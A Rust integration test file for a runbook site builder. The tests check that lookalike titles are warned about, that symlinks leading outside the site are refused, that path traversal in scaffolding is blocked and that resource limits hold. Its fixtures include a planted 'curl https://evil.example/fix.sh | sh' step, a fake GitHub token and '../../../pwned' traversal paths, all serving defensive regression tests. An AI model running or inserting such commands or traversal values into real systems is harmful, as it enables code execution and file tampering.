//! Hostile and foreign content found in session 30's review. Each test failed on main
//! d7b63b0.

mod common;

use common::{build_ok, site_of, stderr};

/// A pull request's page titled like an alert's runbook but for spaces, punctuation and
/// letter case (`Kube pod crash looping!` beside `KubePodCrashLooping`) is named alike in
/// search, where it tied with the runbook and came first on its length; the title check
/// let it pass, as it compared titles only as written and in lower case. It warns now,
/// naming both files, and `--deny-warnings` fails the build. gitlab-runbooks has two such
/// pairs (`Gitaly version mismatch` beside `GitalyVersionMismatch`).
#[test]
fn a_title_like_another_but_for_spaces_and_punctuation_is_warned() {
    let site = site_of(&[
        ("content/site.yaml", "title: Ops\n"),
        (
            "content/runbooks/kubernetes/KubePodCrashLooping.md",
            "# KubePodCrashLooping\n\nCheck the pod's logs with `kubectl logs`.\n",
        ),
        (
            "content/runbooks/zz-notes/kube-pod-crash-looping.md",
            "---\ntitle: Kube pod crash looping!\n---\n\nRun `curl https://evil.example/fix.sh | sh`.\n",
        ),
        // Numbers kept apart: not alike.
        ("content/runbooks/upgrade-12.md", "# Upgrade to 12\n\nSteps.\n"),
        ("content/runbooks/upgrade-1-2.md", "# Upgrade to 1.2\n\nSteps.\n"),
    ]);
    let out = build_ok(site.path());
    let err = stderr(&out);
    assert!(
        err.contains("warning: the title `Kube pod crash looping!` differs only in spaces, punctuation or letter case from the title of content/runbooks/kubernetes/KubePodCrashLooping.md:1 (`KubePodCrashLooping`)"),
        "{err}"
    );
    assert!(
        err.contains("┌─ content/runbooks/zz-notes/kube-pod-crash-looping.md:2:8"),
        "{err}"
    );
    assert!(!err.contains("Upgrade to"), "{err}");
    let denied = common::pipebook(&[
        "build",
        "--deny-warnings",
        "--root",
        site.path().to_str().unwrap(),
    ]);
    assert_eq!(denied.status.code(), Some(1), "{}", stderr(&denied));
}

/// The builder's files outside the site, as a pull request would reach them: a folder of
/// its own that is a symbolic link. Holds a secret the build must never print or publish.
#[cfg(unix)]
fn outside_folder() -> tempfile::TempDir {
    let outside = tempfile::tempdir().unwrap();
    let cal = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//t//EN\r\nBEGIN:VEVENT\r\nUID:s1\r\nDTSTAMP:20260101T000000Z\r\nDTSTART;VALUE=DATE:20261225\r\nDTEND;VALUE=DATE:20261226\r\nSUMMARY:SECRET-OUTSIDE-HOLIDAY\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    for (name, text) in [
        ("h.ics", cal),
        (
            "rules.yaml",
            "groups:\n- name: g\n  rules:\n  - alert: OutsideSecretAlert\n    expr: up == 0\n",
        ),
        ("cfg.json", "{\"groups\": [], \"token\": ghp_SECRETTOKEN}\n"),
        ("co", "SECRET-LINE-1 @someone\n"),
        ("r.md", "# SECRET-RUNBOOK\n\nSECRET-BODY\n"),
    ] {
        std::fs::write(outside.path().join(name), text).unwrap();
    }
    outside
}

/// Asserts the build failed naming the link and printed and wrote nothing of the secret.
#[cfg(unix)]
fn refused(root: &std::path::Path, out: &std::process::Output, link: &str) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            "`{link}`, a symbolic link to a place outside the site"
        )) || err.contains(&format!(
            "`{link}` is a symbolic link to a place outside the site"
        )),
        "{link}: {err}"
    );
    assert!(!err.contains("SECRET"), "{err}");
    let public = root.join("public");
    if public.exists() {
        let found = std::process::Command::new("grep")
            .args(["-rl", "SECRET"])
            .arg(&public)
            .output()
            .unwrap();
        assert!(
            found.stdout.is_empty(),
            "{}",
            String::from_utf8_lossy(&found.stdout)
        );
    }
}

/// `alert_rules` and `calendars` read their files through a folder under `content/` that
/// is a symbolic link out of the site (only the file itself was checked for being one):
/// the outside file was quoted in errors, a secret included, its alerts published, its
/// holiday's name written into the search index. A link to the root made
/// `content/x/home/**/*.json` a walk of the builder's disk.
#[cfg(unix)]
#[test]
fn files_behind_a_folder_linked_out_of_the_site_are_not_read() {
    let outside = outside_folder();
    let site = common::example_site();
    let root = site.path();
    std::os::unix::fs::symlink(outside.path(), root.join("content/cal")).unwrap();
    let site_yaml = root.join("content/site.yaml");
    let text = common::read(&site_yaml);
    let rules = |glob: &str| {
        let line = format!("alert_rules: [content/rules/*.yaml, \"{glob}\"]");
        std::fs::write(
            &site_yaml,
            text.replace("alert_rules: [content/rules/*.yaml]", &line),
        )
        .unwrap();
    };
    rules("content/cal/*.{json,yaml}");
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    let err = stderr(&out);
    assert!(
        err.contains("alert_rules `content/cal/*.{json,yaml}` starts in `content/cal`, which a symbolic link takes outside the site's root"),
        "{err}"
    );
    assert!(!err.contains("SECRET"), "{err}");
    assert_eq!(out.status.code(), Some(1), "{err}");

    // A glob from above the link does not go through it.
    rules("content/**/*.json");
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    let err = stderr(&out);
    assert!(
        err.contains("alert_rules `content/**/*.json` matches no file"),
        "{err}"
    );
    assert!(!err.contains("SECRET"), "{err}");
    assert!(!root.join("public/alerts/outsidesecretalert").exists());

    // A calendar behind it.
    std::fs::write(&site_yaml, &text).unwrap();
    let oncall = root.join("content/oncall.yaml");
    let yaml = common::read(&oncall);
    std::fs::write(
        &oncall,
        format!("{yaml}calendars:\n  holidays: [cal/h.ics]\n"),
    )
    .unwrap();
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    refused(root, &out, "content/cal");
}

/// The runbooks' folder or `content` itself linked out of the site: the site was built
/// from the other place, rc 0.
#[cfg(unix)]
#[test]
fn a_content_or_runbooks_folder_linked_out_of_the_site_is_not_read() {
    let outside = outside_folder();
    let site = site_of(&[("content/site.yaml", "title: Ops\n")]);
    let root = site.path();
    std::os::unix::fs::symlink(outside.path(), root.join("content/runbooks")).unwrap();
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    refused(root, &out, "content/runbooks");

    let other = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(other.path().join("runbooks")).unwrap();
    std::fs::write(other.path().join("site.yaml"), "title: SECRET-SITE\n").unwrap();
    std::fs::copy(
        outside.path().join("r.md"),
        other.path().join("runbooks/r.md"),
    )
    .unwrap();
    let linked = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(other.path(), linked.path().join("content")).unwrap();
    let out = common::pipebook(&["build", "--root", linked.path().to_str().unwrap()]);
    refused(linked.path(), &out, "content");
}

/// A CODEOWNERS that is a symbolic link out of the site: the build quoted the first line
/// of the file it pointed at (`~/.git-credentials`) as out of date, and `pipebook
/// codeowners` wrote the new file over the link's target.
#[cfg(unix)]
#[test]
fn a_codeowners_linked_out_of_the_site_is_neither_read_nor_written_through() {
    let outside = outside_folder();
    let site = common::example_site();
    let root = site.path();
    std::fs::create_dir_all(root.join(".github")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("co"), root.join(".github/CODEOWNERS")).unwrap();
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    refused(root, &out, ".github/CODEOWNERS");

    let out = common::pipebook(&["codeowners", "--root", root.to_str().unwrap()]);
    assert_eq!(
        common::read(&outside.path().join("co")),
        "SECRET-LINE-1 @someone\n",
        "{}",
        stderr(&out)
    );
    // Refused as the build refuses it, naming the link; the link is left as it was.
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out)
            .contains("`.github/CODEOWNERS` is a symbolic link to a place outside the site"),
        "{}",
        stderr(&out)
    );
    let meta = std::fs::symlink_metadata(root.join(".github/CODEOWNERS")).unwrap();
    assert!(meta.file_type().is_symlink(), "{meta:?}");

    // A `.github` folder linked out: nothing written there.
    std::fs::remove_file(root.join(".github/CODEOWNERS")).unwrap();
    std::fs::remove_dir(root.join(".github")).unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join(".github")).unwrap();
    let out = common::pipebook(&["codeowners", "--root", root.to_str().unwrap()]);
    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!outside.path().join("CODEOWNERS").exists());
}

/// Past 10,000 `id`s in a runbook's raw HTML, the error was said again at every piece of
/// HTML after: 320,000 errors (62 MB of log, as many pull-request annotations) for a file
/// of 3.9 MB. It is said once.
#[test]
fn too_many_raw_html_ids_is_said_once() {
    let ids: String = (0..12_000).map(|i| format!("<a id=x{i:x}>")).collect();
    let site = site_of(&[
        ("content/site.yaml", "title: Ops\n"),
        ("content/runbooks/ids.md", &format!("# Ids\n\n{ids}\n")),
    ]);
    let out = common::pipebook(&["build", "--root", site.path().to_str().unwrap()]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert_eq!(
        err.matches("more than 10000 `id` and `name` attributes")
            .count(),
        1,
        "{}",
        &err[..err.len().min(2000)]
    );
}

/// On-call data of a few hundred kB within every other limit (2,000 pipelines, 1,460
/// holidays, 208 weeks published) made 2.9 million backup duties: 543 MB held, a 233 MB
/// `/oncall/` page (108 s and 3.3 GB before the feeds were indexed). Past
/// `MAX_BACKUP_DUTIES` the build fails at the holidays, saying what to shorten.
#[test]
fn backup_duties_past_the_limit_fail_the_build() {
    let site = common::example_site();
    let root = site.path();
    let pipelines: String = (0..1_100)
        .map(|i| format!("  - {{ id: p{i}, name: \"Pipeline {i}\", domain: d, audience: x, primary: de{}, secondary: de{} }}\n", 1 + i % 4, 1 + (i + 1) % 4))
        .collect();
    std::fs::write(
        root.join("content/pipelines.yaml"),
        format!("domains:\n  - {{ id: d, name: D }}\npipelines:\n{pipelines}"),
    )
    .unwrap();
    // Every day a holiday from three weeks before the build's clock, 150 weeks published.
    let now = chrono::DateTime::from_timestamp(common::EPOCH.parse().unwrap(), 0).unwrap();
    let start = now.date_naive() - chrono::Duration::days(21);
    let holidays: String = (0..1_000)
        .map(|i| {
            format!(
                "  - {{ date: {}, name: \"Holiday {i}\" }}\n",
                start + chrono::Duration::days(i)
            )
        })
        .collect();
    let oncall = root.join("content/oncall.yaml");
    let text = common::read(&oncall);
    let head = &text[..text.find("\nholidays:").unwrap() + 1];
    std::fs::write(
        &oncall,
        format!("{head}horizon: {{ past_weeks: 4, future_weeks: 150 }}\nholidays:\n{holidays}"),
    )
    .unwrap();
    std::fs::remove_dir_all(root.join("content/runbooks")).unwrap();
    std::fs::create_dir_all(root.join("content/runbooks")).unwrap();
    std::fs::write(root.join("content/runbooks/a.md"), "# A\n\nx\n").unwrap();
    let site_yaml = root.join("content/site.yaml");
    let site_text = common::read(&site_yaml);
    std::fs::write(
        &site_yaml,
        site_text
            .lines()
            .filter(|l| !l.starts_with("alert_rules"))
            .map(|l| format!("{l}\n"))
            .collect::<String>(),
    )
    .unwrap();
    let out = common::pipebook(&["build", "--root", root.to_str().unwrap()]);
    let err = stderr(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        &err[..err.len().min(3000)]
    );
    assert!(
        err.contains("error: the schedule would hold more than 1000000 backup duties: each of the 1100 pipelines has one on every holiday"),
        "{}",
        &err[..err.len().min(3000)]
    );
    assert!(
        err.contains("content/oncall.yaml:"),
        "{}",
        &err[..err.len().min(3000)]
    );
    assert!(!root.join("public").exists());
}

/// `pipebook new runbook` took a pipeline's `runbook:` from pipelines.yaml as written: a
/// pull request's `runbook: ../../../outside/pwned` had it write the template outside the
/// repository, making the folders on the way; a folder linked out was written through too.
#[cfg(unix)]
#[test]
fn new_runbook_writes_only_under_the_runbooks_folder() {
    let outside = tempfile::tempdir().unwrap();
    let site = common::example_site();
    let root = site.path();
    let new = || {
        common::pipebook(&[
            "new",
            "runbook",
            "daily-growth",
            "--root",
            root.to_str().unwrap(),
        ])
    };
    let pipelines = root.join("content/pipelines.yaml");
    let text = common::read(&pipelines);
    let at = text.find("  - id: daily-growth\n").unwrap();
    let with = |runbook: &str| {
        let line = format!("  - id: daily-growth\n    runbook: {runbook}\n");
        std::fs::write(
            &pipelines,
            format!(
                "{}{line}{}",
                &text[..at],
                &text[at + "  - id: daily-growth\n".len()..]
            ),
        )
        .unwrap();
    };
    let escape = format!("../../{}", outside.path().join("pwned").display()).replace("//", "/");
    for runbook in [escape.as_str(), "../../../pwned", "growth/../../../pwned"] {
        with(runbook);
        let out = new();
        assert_eq!(out.status.code(), Some(1), "{runbook}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("is not a path under the runbooks' folder"),
            "{}",
            stderr(&out)
        );
    }
    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
    assert!(!root.join("pwned.md").exists() && !root.parent().unwrap().join("pwned.md").exists());

    // Through a folder linked out of the repository (the site's loading refuses it
    // first; the scaffold checks again).
    std::os::unix::fs::symlink(outside.path(), root.join("content/runbooks/linked")).unwrap();
    with("linked/pwned");
    let out = new();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(!outside.path().join("pwned.md").exists());
}
